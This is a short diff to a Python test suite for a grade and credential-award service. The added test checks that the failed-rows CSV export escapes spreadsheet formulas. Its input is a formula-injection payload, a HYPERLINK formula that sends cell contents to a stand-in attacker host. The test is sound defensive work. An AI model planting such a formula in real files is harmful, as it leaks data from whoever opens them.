@@ -236,3 +236,15 @@ def test_bulk_reissue_replaces_each_corrected_award_and_revokes_the_old_one(
     assert awards.issuer.status.status_of(old.credential_id).state == "revoked"
     assert awards.issuer.status.status_of(new.credential_id).state == "valid"
     assert award_count(world.app) == 6
+
+
+def test_failed_rows_csv_never_carries_a_formula(world: World, registrar: TestClient) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    bad = {3: ("grade", formula, "unknown grade")}
+    job_path = _confirm(registrar, _upload(registrar, world.spec_a, _grades(6, bad)))
+    wait_for_job(registrar, job_path)
+    failed = registrar.get(f"{job_path}/failed.csv").content.decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(failed)))
+    assert row["grade"] == "'" + formula
+    # Corrected and uploaded again, our own export reads back as what the registrar typed.
+    assert read_gradebook(failed.encode("utf-8"), "failed.csv").rows[0][1]["grade"] == formula
